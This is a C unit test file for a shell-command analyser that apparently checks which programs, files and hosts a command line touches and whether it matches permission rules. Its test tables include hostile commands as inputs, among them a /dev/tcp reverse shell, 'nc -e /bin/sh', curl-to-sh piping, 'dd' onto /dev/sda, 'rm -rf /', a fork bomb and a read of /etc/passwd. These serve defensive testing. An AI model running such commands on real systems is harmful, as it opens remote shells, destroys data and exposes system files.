/*
 * runtime_command_test.c - shell lines and what is known of them, as tables (command_cases.h says
 * how they are written).
 */
#include "tests/unit/command_cases.h"

/* ---- words and grammar ----------------------------------------------------------------------- */

static void words(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"", "", "", "", ""},
        {"   # nothing", "", "", "", ""},
        {"ls", "ls", "", "", ""},
        {"/bin/rm x", "rm", "", "x", ""},
        {"\\rm x", "rm", "", "x", ""},
        {"r''m x", "rm", "", "x", ""},
        {"'r'\"m\" x", "rm", "", "x", ""},
        {"$'\\x72m' x", "rm", "", "x", ""},
        {"$'\\162\\155' x", "rm", "", "x", ""},
        {"r\\\nm x", "rm", "", "x", ""},
        {"rm 'a b' \"c d\" e\\ f", "rm", "", "a b c d e f", ""},
        {"rm 'it''s'", "rm", "", "its", ""},
        {"rm a#b # c", "rm", "", "a#b", ""},
        {"rm {a,b}", "rm", "", "a b", ""},
        {"rm x{a,b{1,2}}y", "rm", "", "xay xb1y xb2y", ""},
        {"{rm,-rf,/etc}", "rm", "", "/etc/", ""},
        {"rm {a", "rm", "", "{a", ""},
        {"rm {}", "rm", "", "{}", ""},
        {"rm {1..3}", "rm", "", "?", ""},
        {"rm '{a,b}'", "rm", "", "{a,b}", ""},
        {"rm src/*.o", "rm", "", "src/", ""},
        {"rm *", "rm", "", "./", ""},
        {"rm '*'", "rm", "", "*", ""},
        {"rm /*/x", "rm", "", "//", ""},
        {"rm */../../x", "rm", "", "?", ""},
        {"rm ~/x", "rm", "", "~/x", ""},
        {"rm $HOME/x \"${HOME}/y\"", "rm", "", "~/x ~/y", ""},
        {"rm '~/x'", "rm", "", "?", ""},
        {"rm ~bob/x", "rm", "", "?", ""},
        {"rm $PWD/x \"$(pwd)/y\"", "rm", "", "x y", ""},
        {"rm \"$x\"", "rm", "", "?", ""},
        {"$x y", "?", "?", "?", "?"},
        {"\"$x/bin/ls\"", "ls", "", "", ""},
        {"l$x", "?", "?", "?", "?"},
        {"rm a/../b ./c", "rm", "", "b c", ""},
        {"rm 'unterminated", "!", 0, 0, 0},
        {"rm \"unterminated", "!", 0, 0, 0},
        {"rm $(ls", "!", 0, 0, 0},
        {"rm `ls", "!", 0, 0, 0},
        {"ls )", "!", 0, 0, 0},
        {"ls; ; ls", "!", 0, 0, 0},
        {"& ls", "!", 0, 0, 0},
        {"| ls", "!", 0, 0, 0},
        {"ls \x01", "!", 0, 0, 0},
        {"fi", "!", 0, 0, 0},
        {"if true; then ls", "!", 0, 0, 0},
    };
    CHECK(cases);
}

static void grammar(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"a; b & c && d || e | f\ng", "a b c d e f g", "", "", ""},
        {"! a | b |& c", "a b c", "", "", ""},
        {"time -p a; time b", "a b", "", "", ""},
        {"(a; b)", "a b", "", "", ""},
        {"{ a; b; }", "a b", "", "", ""},
        {"if a; then b; elif c; then d; else e; fi", "a b c d e", "", "", ""},
        {"while a; do b; done; until c\ndo d\ndone", "a b c d", "", "", ""},
        {"for x in 1 2; do a \"$x\"; done", "a", "", "", ""},
        {"for ((i=0; i<3; i++)); do a; done", "a", "", "", ""},
        {"for x\ndo a; done", "a", "", "", ""},
        {"select x in a b; do c; done", "c", "", "", ""},
        {"case $x in a|b) c;; (d) e;& *) f; esac", "c e f", "", "", ""},
        {"[[ $a == b && $(c) =~ (d|e) ]] && f", "c f", "", "", ""},
        {"(( x > 1 )) && a $((1 + 2))", "a", "", "", ""},
        {"((a); (b))", "a b", "", "", ""},
        {"echo $(a $(b)) `c \\`d\\`` \"$(e)\"", "echo a b c d e", "", "", ""},
        {"echo ${x:-$(a)} ${x#'}'}", "echo a", "", "", ""},
        {"echo $(( $(a) + 1 ))", "echo a", "", "", ""},
        {"x=$(a) y=`b` c", "c a b", "", "", ""},
        {"x=(a $(b) c); d", "b d", "", "", ""},
        {"a[$(b)]=1 c", "c b", "", "", ""},
        {"diff <(a) >(b)", "diff a b", "", "", ""},
        {"cat <<E\nrm -rf / $(a)\nE\nb", "cat a b", "", "", ""},
        {"cat <<'E'\nrm -rf / $(a)\nE\nb", "cat b", "", "", ""},
        {"cat <<-E | b\n\tx\n\tE\nc", "cat b c", "", "", ""},
        {"cat <<A <<B\na\nA\nb\nB\nc", "cat c", "", "", ""},
        {"cat <<< \"$(a)\"", "cat a", "", "", ""},
        {"f() { rm x; }", "", "", "", ""},
        {"f() { rm x; }; f", "rm", "", "x", ""},
        {"function f { rm x; }; g() { f; }; g", "rm", "", "x", ""},
        {":(){ :|:& };:", "", "", "", ""},
        {"ls() { rm x; }; ls", "rm", "", "x", ""},
        {"f() { rm x; } && ls", "ls", "", "", ""},
        {"rm() { :; }; rm x", ":", "", "", ""},
        {"(rm() { :; }); rm x", ": rm", "", "x", ""},
        {"rm x; rm() { :; }", "rm :", "", "x", ""},
        {"a && rm() { :; }; rm x", "a : rm", "", "x", ""},
        {"rm() { :; } | a; rm x", ": a rm", "", "x", ""},
        {"rm() { :; } & rm x", ": rm", "", "x", ""},
        {"if a; then rm() { :; }; fi; rm x", "a : rm", "", "x", ""},
        {"rm() { :; }; unset -f rm; rm x", ": unset rm", "", "x", ""},
        {"rm() { :; }; command rm x", ": command rm?", "?", "x?", "?"},
        {"f() { rm x; } | cat; ls", "cat ls", "", "", ""},
        {"git commit -m \"$(cat <<'E'\nrm -rf / $(x) 'a\nE\n)\" && ls", "git cat ls", "", "", ""},
        {"f() { rm x; }; time f", "rm", "", "x", ""},
        {"f() { rm x; }; xargs f", "rm xargs f?", "?", "x?", "?"},
        {"x=rm; $x a", "rm", "", "a", ""},
        {"x='rm -r'; $x a", "rm", "", "a/", ""},
        {"x=a; rm $x/b \"${x}\"", "rm", "", "a/b a", ""},
        {"x=a; x=b; rm $x", "rm", "", "?", ""},
        {"y && x=a; rm $x", "y rm", "", "?", ""},
        {"x=a | y; rm $x", "y rm", "", "?", ""},
        {"read x; rm $x", "read rm", "", "?", ""},
        {"x=a; read x; rm $x", "read rm", "", "?", ""},
        {"export D=/tmp/x; rm $D/y", "export rm", "", "/tmp/x/y", ""},
        {"rm -- -x", "rm", "", "-x", ""},
    };
    CHECK(cases);
}

/* ---- wrappers -------------------------------------------------------------------------------- */

static void wrappers(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"sudo rm x", "sudo rm", "", "x", ""},
        {"sudo -u bob -- rm x", "sudo rm", "", "x", ""},
        {"sudo -E A=b rm x", "sudo rm", "", "x", ""},
        {"sudo -ubob rm x", "sudo rm", "", "x", ""},
        {"sudo --wat rm x", "sudo rm?", "?", "x?", "?"},
        {"sudo -l", "sudo", "", "", ""},
        {"env A=b C=d rm x", "env rm", "", "x", ""},
        {"env -i -u Z rm x", "env rm", "", "x", ""},
        {"env -S 'rm x'", "env rm", "", "x", ""},
        {"env PATH=/evil ls", "env ls?", "", "", ""},
        {"PATH=/evil ls", "ls?", "", "", ""},
        {"nice -n 5 rm x", "nice rm", "", "x", ""},
        {"nice -5 rm x", "nice rm", "", "x", ""},
        {"nohup setsid rm x &", "nohup setsid rm", "", "x", ""},
        {"timeout -k 1 5 rm x", "timeout rm", "", "x", ""},
        {"time -p rm x", "rm", "", "x", ""},
        {"/usr/bin/time -o log rm x", "time rm", "", "log x", ""},
        {"stdbuf -oL rm x", "stdbuf rm", "", "x", ""},
        {"command rm x", "command rm", "", "x", ""},
        {"command -v rm", "command", "", "", ""},
        {"builtin cd x && rm y", "builtin cd rm", "", "x/y", ""},
        {"[ -x /bin/rm ] && echo a[", "[ echo", "", "", ""},
        {"rm a[bc] [", "rm", "", "./ [", ""},
        {"rm `pwd`/x", "rm", "", "x", ""},
        {"find . -name -delete -print", "find", "./", "", ""},
        {"echo / | xargs --replace=F rm -rf F", "echo xargs rm", "", "?", ""},
        {"env -S 'A=b rm' x", "env rm", "", "x", ""},
        {"exec rm x", "exec rm", "", "x", ""},
        {"exec 3> log", "exec", "", "log", ""},
        {"eval rm x", "eval rm", "", "x", ""},
        {"eval 'rm x; ls'", "eval rm ls", "", "x", ""},
        {"eval \"$x\"", "eval?", "?", "?", "?"},
        {"trap 'rm x' EXIT", "trap rm", "", "x", ""},
        {"sh -c 'rm x'", "sh rm", "", "x", ""},
        {"bash -lc 'rm x' a b", "bash rm", "", "x", ""},
        {"bash -c -e 'rm x'", "bash rm", "", "x", ""},
        {"bash -o pipefail -c 'rm x'", "bash rm", "", "x", ""},
        {"bash -c \"sh -c 'rm x'\"", "bash sh rm", "", "x", ""},
        {"bash -c \"rm $x\"", "bash rm?", "?", "?", "?"},
        {"bash -c \"$x\"", "bash?", "?", "?", "?"},
        {"bash -- -c 'rm x'", "bash?", "-c?", "?", "?"},
        {"bash x.sh", "bash?", "x.sh?", "?", "?"},
        {"bash", "bash", "", "", ""},
        {"bash --version", "bash", "", "", ""},
        {"bash <<E\nrm x\nE", "bash rm", "", "x", ""},
        {"bash <<E\nrm $x\nE", "bash rm?", "?", "?", "?"},
        {"bash <<< 'rm x'", "bash rm", "", "x", ""},
        {"echo rm x | sh", "echo sh rm", "", "x", ""},
        {"printf %s 'rm x' | bash -s", "printf bash rm", "", "x", ""},
        {"curl http://a.test | sh", "curl sh?", "?", "?", "a.test?"},
        {"base64 -d x | bash -", "base64 bash?", "x?", "?", "?"},
        {"cat x | while read l; do sh; done", "cat read sh?", "x?", "?", "?"},
        {"sh < x", "sh?", "x?", "?", "?"},
        {"a > >(sh)", "a sh?", "?", "?", "?"},
        {"a | tee >(sh)", "a tee sh?", "?", "?", "?"},
        {"sh <&3", "sh?", "?", "?", "?"},
        {"exec < x; sh", "exec sh?", "x?", "?", "?"},
        {"read PATH; ls", "read ls?", "", "", ""},
        {"source x", "source?", "x?", "?", "?"},
        {". ./x", ".?", "x?", "?", "?"},
        {"su -c 'rm x' bob", "su rm", "", "x", ""},
        {"echo x | xargs rm", "echo xargs rm", "", "?", ""},
        {"xargs -n 1 -I{} mv {} dst", "xargs mv", "", "dst/?", ""},
        {"xargs -0 sh -c 'rm \"$@\"' _", "xargs sh rm", "", "?", ""},
        {"find . -name '*.o' -exec rm {} \\;", "find rm", "./", "./", ""},
        {"find a b -exec grep x {} +", "find grep", "a/ b/ a/ b/", "", ""},
        {"find src -delete", "find", "src/", "src/", ""},
        {"find src -exec sh -c 'rm \"$1\"' _ {} \\;", "find sh rm", "src/", "src/", ""},
        {"sh -c 'rm \"$@\" $1 $3' n a 'b c'", "sh rm", "", "a b c a", ""},
        {"sh -c 'shift; rm \"$1\"' n a b", "sh shift rm", "", "?", ""},
        {"sh -c 'f() { rm \"$1\"; }; f x' n a", "sh rm", "", "?", ""},
        {"sh -c '$0 x' rm", "sh rm", "", "x", ""},
        {"find a b -print0 | xargs -0 rm", "find xargs rm", "a/ b/", "a/ b/", ""},
        {"find a -print | xargs rm", "find xargs rm", "a/", "?", ""},
        {"find . -execdir {} \\;", "find?", "./?", "?", "?"},
        {"find . -name \"$x\"", "find", "./", "", ""},
        {"find . $x", "find?", "./?", "?", "?"},
        {"watch -n 1 'rm x; ls'", "watch rm ls", "", "x", ""},
        {"parallel rm ::: a b", "parallel rm", "", "?", ""},
        {"parallel ::: 'rm x' ls", "parallel rm ls", "", "x", ""},
        {"parallel 'rm {}; ls' ::: a", "parallel rm ls", "", "?", ""},
        {"flock /tmp/l rm x", "flock rm", "", "/tmp/l x", ""},
        {"flock /tmp/l -c 'rm x'", "flock rm", "", "/tmp/l x", ""},
        {"ssh -p 22 bob@h.test rm -rf x", "ssh rm", "", "", "h.test"},
        {"ssh h.test 'rm x' > y", "ssh rm", "", "y", "h.test"},
        {"docker exec -it box rm x", "docker rm", "", "", ""},
        {"docker run --rm -v /:/x alpine rm x", "docker rm", "", "//", ""},
        {"docker ps -a", "docker", "", "", ""},
        {"docker compose exec web rm x", "docker rm", "", "", ""},
        {"kubectl -n a exec pod -c b -- rm x", "kubectl rm", "", "", ""},
        {"chroot /mnt rm x", "chroot rm", "", "", ""},
        {"busybox rm x", "busybox rm", "", "x", ""},
        {"python -c 'print(1)'", "python?", "?", "?", "?"},
        {"python3.11 -c 'print(1)'", "python3.11?", "?", "?", "?"},
        {"python -m pytest", "python", "", "", ""},
        {"python x.py", "python", "", "", ""},
        {"python - <<E\nx\nE", "python?", "?", "?", "?"},
        {"cat x | python", "cat python?", "x?", "?", "?"},
        {"perl -pe 's/a/b/' x", "perl?", "?", "?", "?"},
        {"node -e 1", "node?", "?", "?", "?"},
        {"npx cowsay hi", "npx cowsay", "", "", ""},
        {"doppler run -- printenv A", "doppler printenv", "", "", ""},
        {"alias ls='rm x'; ls", "alias ls?", "", "", ""},
        {"git -c alias.x='!rm y' x", "git?", "", "", ""},
        {"git bisect run rm x", "git rm", "", "x", ""},
    };
    CHECK(cases);
}

/* ---- files and hosts ------------------------------------------------------------------------- */

static void files(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"a > x 2> y < z >> w &> v", "a", "z", "x y w v", ""},
        {"a >| x 2>&1 >&2 3<&- <> y", "a", "y", "x y", ""},
        {"> x", "", "", "x", ""},
        {"{ a; b; } > x", "a b", "", "x", ""},
        {"a > /dev/null 2> /dev/stderr < /dev/zero", "a", "", "", ""},
        {"a > $x", "a", "", "?", ""},
        {"cat a - b | head -n 5", "cat head", "a b", "", ""},
        {"head -n 5 a; tail -5 b; wc -l c", "head tail wc", "a b c", "", ""},
        {"grep -rn 'rm x' src", "grep", "src/", "", ""},
        {"grep -e a -e b c", "grep", "c", "", ""},
        {"sort -k 2 -o out in", "sort", "in", "out/", ""},
        {"cp a b", "cp", "a", "b/", ""},
        {"cp -r a b c/", "cp", "a/ b/", "c/", ""},
        {"cp -t d a b", "cp", "a b", "d/", ""},
        {"mv a b", "mv", "", "a/ b/", ""},
        {"ln -s a b", "ln", "a", "b/", ""},
        {"rm -rf a b", "rm", "", "a/ b/", ""},
        {"mkdir -p a/b; touch c; chmod 644 d; chown -R u:g e", "mkdir touch chmod chown", "",
         "a/b c d e/", ""},
        {"tee -a x", "tee", "", "x", ""},
        {"dd if=/dev/zero of=/dev/sda bs=1M", "dd", "", "/dev/sda", ""},
        {"sed -n 1p x", "sed", "x", "", ""},
        {"sed -i.bak 's/a/b/g' x y", "sed", "", "x y", ""},
        {"sed -e 's/a/b/e' x", "sed?", "x?", "?", "?"},
        {"sed '1e rm y' x", "sed?", "x?", "?", "?"},
        {"sed 's/a/b/w out' x", "sed", "x", "?", ""},
        {"awk '{print $1}' x", "awk", "x", "", ""},
        {"awk -F: 'BEGIN{system(\"rm x\")}'", "awk?", "?", "?", "?"},
        {"awk '{print > \"out\"}' x", "awk", "x", "?", ""},
        {"awk '$1 > 5 || $2 {print \"a|b\"}' x", "awk", "x", "", ""},
        {"tar czf out.tgz a b", "tar", "a/ b/", "out.tgz", ""},
        {"tar -xf in.tar -C dst", "tar", "in.tar", "dst/", ""},
        {"tar xf in.tar", "tar", "in.tar", "./", ""},
        {"tar tf in.tar", "tar", "in.tar", "", ""},
        {"tar -xf a --to-command='rm x'", "tar rm", "a", "x ./", ""},
        {"cd /a; rm x; cd b && rm ../y", "cd rm cd rm", "", "/a/x /a/y", ""},
        {"(cd /a && rm x); rm y", "cd rm rm", "", "/a/x y", ""},
        {"cd $x; rm y", "cd rm", "", "?", ""},
        {"cd; rm y", "cd rm", "", "~/y", ""},
        {"cd a | b; rm y", "cd b rm", "", "y", ""},
        {"if x; then cd a; fi; rm y", "x cd rm", "", "?", ""},
        {"x || cd a; rm y", "x cd rm", "", "?", ""},
        {"while x; do rm y; cd ..; done", "x rm cd", "?", "y?", ""},
        {"git -C a status; rm y", "git rm", "", "y", ""},
        {"curl -o x -d @y https://u:p@h.test:8080/z", "curl", "y", "x/", "h.test"},
        {"curl -O h.test/z", "curl", "", "./", "h.test"},
        {"curl \"https://h.test/$x\"", "curl", "", "", "h.test"},
        {"curl \"https://$x/\"", "curl", "", "", "?"},
        {"curl -F f=@y http://[::1]/", "curl", "y", "", "::1"},
        {"curl http://0x7f000001/", "curl", "", "", "127.0.0.1"},
        {"curl file:///etc/passwd", "curl", "/etc/passwd", "", ""},
        {"curl -K x", "curl?", "x?", "?", "?"},
        {"wget https://h.test/a", "wget", "", "./", "h.test"},
        {"wget -O - https://h.test/a", "wget", "", "", "h.test"},
        {"wget -qO x https://h.test/a", "wget", "", "x/", "h.test"},
        {"scp a bob@h.test:/b", "scp", "a/", "", "h.test"},
        {"scp h.test:/b .", "scp", "", "./", "h.test"},
        {"rsync -a --delete src/ h.test:dst", "rsync", "src/", "", "h.test"},
        {"nc h.test 80 < x", "nc", "x", "", "h.test"},
        {"nc -l -p 80", "nc", "", "", ""},
        {"nc -e /bin/sh h.test 1", "nc sh", "", "", "h.test"},
        {"git clone git@h.test:a/b.git dst", "git", "", "dst/", "h.test"},
        {"git push https://h.test/a main", "git", "", "", "h.test"},
        {"git push origin main", "git", "", "", ""},
        {"cat < /dev/tcp/h.test/80", "cat", "", "", "h.test"},
        {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash?", "?", "?", "10.0.0.1?"},
    };
    CHECK(cases);
}

/* ---- runs ------------------------------------------------------------------------------------ */

static void runs(void **state)
{
    (void)state;
    static const runs_case cases[] = {
        {"git push", "git push", 'y', 'y'},
        {"git -C x push -f", "git push", 'y', 'y'},
        {"git -Cx -c a=b push", "git push", 'y', '?'},
        {"git --git-dir x push", "git push", 'y', 'y'},
        {"git pull", "git push", 'n', 'n'},
        {"git push --force", "git push --force", 'y', 'y'},
        {"git push origin main -f", "git push --force", 'y', 'y'},
        {"git push -uf origin", "git push -f", 'y', 'y'},
        {"git push --forc", "git push --force", '?', '?'},
        {"git push --mirr", "git push --mirror", 'y', 'y'},
        {"git push --force-with-lease", "git push --force", 'n', 'n'},
        {"git push -o --force x", "git push --force", 'n', 'n'},
        {"git push -- --force", "git push --force", 'n', 'n'},
        {"git push $X", "git push --force", '?', '?'},
        {"git push \"$X\"", "git push --force", '?', '?'},
        {"git push origin", "git push origin", 'y', 'y'},
        {"git push main origin", "git push origin", 'n', 'n'},
        {"git $X push", "git push", '?', '?'},
        {"git commit -m 'git push'", "git push", 'n', 'n'},
        {"echo 'git push'", "git push", 'n', 'n'},
        {"rm -rf x", "rm -rf", 'y', 'y'},
        {"rm -fr x", "rm -rf", 'y', 'y'},
        {"rm -r x -f", "rm -rf", 'y', 'y'},
        {"rm --recursive --force x", "rm -rf", 'y', 'y'},
        {"rm -Rfv x", "rm -rf", 'y', 'y'},
        {"rm -r x", "rm -rf", 'n', 'n'},
        {"rm -r -- -f", "rm -rf", 'n', 'n'},
        {"rm x", "rm", 'y', 'y'},
        {"rmdir x", "rm", 'n', 'n'},
        {"/usr/bin/sudo -u bob rm x", "sudo", 'y', 'n'},
        {"sudo -u bob rm -rf x", "sudo rm -rf", 'y', 'n'},
        {"env A=b rm x", "rm", 'y', 'y'},
        {"timeout 5 bash -c 'rm x'", "rm", 'y', 'y'},
        {"bash x.sh", "bash", 'y', '?'},
        {"bash x.sh", "bash x.sh", 'y', 'y'},
        {"bash x.sh", "rm", '?', 'n'},
        {"ls; rm x", "ls,rm", 'y', 'y'},
        {"ls; rm x", "ls", 'y', 'n'},
        {"ls; $x", "ls", 'y', '?'},
        {"ls; $x; rm y", "ls", 'y', 'n'},
        {"$x", "ls", '?', '?'},
        {"ls 'a", "ls", '?', '?'},
        {"", "ls", 'n', 'y'},
        {"> x", "ls", 'n', 'n'},
        {"ls > x", "ls", 'y', 'y'},
        {"python3 x.py", "python", 'y', 'y'},
        {"python3.11 x.py", "python3", 'y', 'y'},
        {"python -c 'x'", "python", 'y', '?'},
        {"python -c 'x'", "rm", '?', 'n'},
        {"frob -x push", "frob push", '?', '?'},
        {"frob push -x", "frob push", 'y', 'y'},
        {"frob --y=z push", "frob push", 'y', 'y'},
        {"frob -xf", "frob -f", '?', '?'},
        {"frob -f", "frob -f", 'y', 'y'},
        {"npm run lint", "npm run lint", 'y', 'y'},
        {"npm run lint2", "npm run lint", 'n', 'n'},
        {"find . -delete", "find -delete", 'y', 'y'},
        {"find . -name x", "find -delete", 'n', 'n'},
        {"terraform -chdir=x apply", "terraform apply", 'y', 'y'},
        {"docker exec a rm -rf x", "rm -rf", 'y', 'n'},
        {"xargs git push", "git push", 'y', 'y'},
        {"xargs git push", "git push --force", '?', '?'},
        {"rm *", "rm -rf", '?', '?'},
        {"rm -- *", "rm -rf", 'n', 'n'},
        {"PATH=x ls", "ls", 'y', '?'},
        {"git checkout -- a", "git checkout --", 'y', 'y'},
        {"git checkout a", "git checkout --", 'n', 'n'},
        {"find . -name -delete", "find -delete", 'n', 'n'},
        {"docker compose down -v", "docker compose down", 'y', 'y'},
    };
    CHECK_RUNS(cases);
}

/* ---- bounds ---------------------------------------------------------------------------------- */

static void read_repeated(const char *one, size_t times, const char *behind, bool broken)
{
    buffer line;
    buffer_init(&line, NULL, 0);
    for (size_t i = 0; i < times; i++)
        buffer_add(&line, one, strlen(one));
    buffer_add(&line, behind, strlen(behind));
    arena memory;
    arena_init(&memory, NULL, LIMIT_SCRATCH_BYTES);
    const command *const command = command_read(&memory, line.bytes, (uint32_t)line.length);
    assert_non_null(command);
    if (command->broken != broken)
        fail_msg("%s * %zu: %s", one, times, command->broken ? "broken" : "whole");
    arena_free(&memory);
    buffer_free(&line);
}

static void bounds(void **state)
{
    (void)state;
    read_repeated("a;", LIMIT_COMMAND_STEPS / 2 - 2, "", false);
    read_repeated("a;", LIMIT_COMMAND_STEPS, "", true);
    read_repeated("a ", LIMIT_COMMAND_BYTES / 2, "", false);
    read_repeated("a ", LIMIT_COMMAND_BYTES / 2, "a", true);
    read_repeated("$(", 100000, "", true);
    read_repeated("(", 100000, "", true);
    read_repeated("((a ", 60000, "", true);
    read_repeated("`", 100000, "", false);
    read_repeated("${a-", 60000, "", true);
    read_repeated("{a,", 80000, "b", false);
    read_repeated("{a,b}", 40000, "", false);
    read_repeated("x1=1;", 9000, "", false);
    read_repeated("sudo ", LIMIT_COMMAND_DEPTH - 4, "ls", false);
    read_repeated("sudo ", LIMIT_COMMAND_DEPTH + 4, "ls", true);
    read_repeated("cat <<A;", 20, "", true);
    read_repeated("f() { a; };", LIMIT_COMMAND_FUNCTIONS + 1, "", true);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(words), cmocka_unit_test(grammar), cmocka_unit_test(wrappers),
        cmocka_unit_test(files), cmocka_unit_test(runs),    cmocka_unit_test(bounds),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
